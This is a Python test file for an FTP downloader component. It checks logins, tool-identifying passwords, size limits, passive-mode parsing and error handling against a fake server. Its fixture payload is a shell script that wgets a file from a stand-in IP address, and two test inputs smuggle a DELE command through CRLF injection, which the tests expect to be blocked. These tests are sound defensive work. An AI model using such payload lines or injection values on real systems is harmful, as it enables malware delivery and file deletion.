# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import asyncio
import shutil
import subprocess
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

from mead.egress.result import Failed, Fetched, Outcome

Fetch = Callable[..., Awaitable[Outcome]]
BODY = b"#!/bin/sh\nwget http://203.0.113.4/x\n" * 3000


class FtpServer:
    """A small FTP server; `odd` replaces its reply to a command."""

    def __init__(self, servers: Any, **odd: bytes | None) -> None:
        self._servers = servers
        self._odd = odd
        self.heard: list[str] = []
        self.sends = BODY

    async def start(self) -> int:
        async def data(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.write(self.sends)
            await writer.drain()

        self.data_port = await self._servers.talk(data)
        return int(await self._servers.talk(self._control))

    async def _control(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(self._odd.get("hello") or b"220-Welcome\r\n331 files\r\n to you\r\n220 ready\r\n")
        while line := (await reader.readline()).decode().rstrip():
            self.heard.append(line)
            word = line.split()[0]
            writer.write(self._odd[word] if word in self._odd else self._replies()[word])  # type: ignore[arg-type]
            if word == "RETR" and "RETR" not in self._odd:
                writer.write(self._odd.get("after") or b"226 done\r\n")

    def _replies(self) -> dict[str, bytes]:
        high, low = divmod(self.data_port, 256)
        return {
            "USER": b"331 password\r\n", "PASS": b"230 in\r\n", "TYPE": b"200 binary\r\n",
            "SIZE": b"213 %d\r\n" % len(BODY), "EPSV": b"229 Extended (|||%d|)\r\n" % self.data_port,
            "PASV": b"227 Entering (10,9,8,7,%d,%d)\r\n" % (high, low), "RETR": b"150 here it comes\r\n",
        }  # fmt: skip


async def _get(
    fetch: Fetch, servers: Any, path: str = "/bin/x", tool: str = "", **odd: Any
) -> tuple[Outcome, FtpServer]:
    login = odd.pop("login", "")
    server = FtpServer(servers, **{key: value for key, value in odd.items() if key != "sends"})
    server.sends = odd.get("sends", BODY)
    agent = odd.pop("agent", None)
    url = f"ftp://{login}127.0.0.1:{await server.start()}{path}"
    got = await fetch(url, tool=tool, user_agent=agent, max_body_bytes=len(BODY), timeout_seconds=0.5)
    return got, server


async def test_a_file_is_got_anonymously(fetch: Fetch, servers: Any) -> None:
    got, server = await _get(fetch, servers, tool="wget", agent="Wget/1.21.3")
    assert isinstance(got, Fetched), got
    assert got.body == BODY
    assert server.heard == [
        "USER anonymous", "PASS -wget@", "TYPE I", "SIZE bin/x", "EPSV", "RETR bin/x",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("agent", "tool", "password"),
    [
        ("Wget/1.21.3", "wget", "-wget@"), ("Wget", "wget", "busybox"),
        ("curl/7.88.1", "curl", "ftp@example.com"),
        (None, "curl", "ftp@example.com"), (None, "ftpget", "busybox"), (None, "ftp", "anonymous@"),
    ],
)  # fmt: skip
async def test_a_tool_is_known_by_its_password(
    fetch: Fetch, servers: Any, agent: str | None, tool: str, password: str
) -> None:
    _, server = await _get(fetch, servers, tool=tool, agent=agent)
    assert server.heard[1] == f"PASS {password}"


async def test_as_many_bytes_as_announced_are_a_body_though_the_server_says_no_more(
    fetch: Fetch, servers: Any
) -> None:
    got, _ = await _get(fetch, servers, after=b" ")
    assert isinstance(got, Fetched), got
    assert got.body == BODY
    got, _ = await _get(fetch, servers, after=b" ", SIZE=b"500 what?\r\n")
    assert isinstance(got, Failed)


async def test_a_user_of_the_url_is_used(fetch: Fetch, servers: Any) -> None:
    got, server = await _get(fetch, servers, login="us%65r:p%40w@", PASS=b"202 no need\r\n")
    assert isinstance(got, Fetched)
    assert server.heard[:2] == ["USER user", "PASS p@w"]


async def test_an_old_server_is_asked_for_pasv_and_its_address_is_not_believed(
    fetch: Fetch, servers: Any
) -> None:
    got, server = await _get(fetch, servers, EPSV=b"500 what?\r\n", SIZE=b"500 what?\r\n", USER=b"230 in\r\n")
    assert isinstance(got, Fetched), got
    assert got.body == BODY
    assert "PASS" not in " ".join(server.heard)


@pytest.mark.parametrize(
    ("odd", "reason"),
    [
        ({"hello": b"421 busy\r\n"}, "FTP server said 421 busy"),
        ({"PASS": b"530 no \xff\r\n"}, "FTP server said 530 no \\xff"),
        ({"RETR": b"550 no such file\r\n"}, "FTP server said 550 no such file"),
        ({"SIZE": b"213 999999999\r\n"}, "announced body is larger than"),
        ({"SIZE": b"213 %d\r\n" % (len(BODY) - 1)}, "another size than announced arrived"),
        ({"sends": BODY[:100]}, "another size than announced arrived"),
        ({"sends": BODY + b"x"}, "body is larger than"),
        ({"after": b"426 aborted\r\n"}, "FTP server said 426 aborted"),
        ({"sends": b"", "SIZE": b"500 x\r\n"}, "empty body"),
        ({"EPSV": b"229 (|||22|)\r\n"}, "FTP server named an unusable data port"),
        ({"EPSV": b"229 (|||99999|)\r\n"}, "FTP server named an unusable data port"),
        ({"EPSV": b"500 x\r\n", "PASV": b"227 somewhere\r\n"}, "FTP server's PASV answer has no port"),
        ({"hello": b"220-x\r\n" * 500}, "FTP reply has too many lines"),
        ({"hello": b"2" * 100_000}, "reply line is too long"),
        ({"path": "/"}, "path cannot be asked for by FTP"),
        ({"path": "/x%0d%0aDELE%20y"}, "path cannot be asked for by FTP"),
        ({"login": "a%0d%0aDELE%20y:b@"}, "line end in an FTP command"),
    ],
    ids=range(17),
)
async def test_what_goes_wrong_is_the_reason(
    fetch: Fetch, servers: Any, odd: dict[str, Any], reason: str
) -> None:
    got, server = await _get(fetch, servers, **odd)
    assert isinstance(got, Failed), got
    assert got.reason.startswith(reason)
    assert not any("DELE" in line for line in server.heard)


async def test_a_connection_that_ends_early_is_a_failure(fetch: Fetch, servers: Any) -> None:
    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"22")

    got = await fetch(f"ftp://127.0.0.1:{await servers.talk(talk)}/x")
    assert isinstance(got, Failed)
    assert got.reason == "connection ended in the middle of a reply"


@pytest.mark.root
@pytest.mark.tool("vsftpd")
@pytest.mark.parametrize("login", ["", "ftp:me%40here@"])
async def test_a_file_comes_from_a_real_ftp_server(
    fetch: Fetch, tmp_path: Path, unused_tcp_port: int, login: str
) -> None:
    empty, served = tmp_path / "empty", tmp_path / "served"
    (served / "bin").mkdir(parents=True)
    empty.mkdir()
    (served / "bin" / "x").write_bytes(BODY)
    configuration = tmp_path / "vsftpd.conf"
    configuration.write_text(
        f"listen=YES\nlisten_port={unused_tcp_port}\nlisten_address=127.0.0.1\nbackground=NO\n"
        f"anonymous_enable=YES\nanon_root={served}\nsecure_chroot_dir={empty}\nseccomp_sandbox=NO\n"
    )
    program = shutil.which("vsftpd") or "/usr/sbin/vsftpd"
    with subprocess.Popen([program, str(configuration)], stdout=subprocess.DEVNULL) as server:
        try:
            await _listening(unused_tcp_port)
            base = f"ftp://{login}127.0.0.1:{unused_tcp_port}"
            got = await fetch(f"{base}/bin/x", tool="ftpget")
            gone, directory = await fetch(f"{base}/bin/y"), await fetch(f"{base}/bin/")
        finally:
            server.terminate()
    assert isinstance(got, Fetched), got
    assert got.body == BODY
    assert got.trace.status == 226
    assert isinstance(gone, Failed)
    assert gone.reason == "FTP server said 550 Failed to open file."
    assert isinstance(directory, Failed)


async def _listening(port: int) -> None:
    async with asyncio.timeout(20):
        while True:
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.05)
            else:
                writer.close()
                return
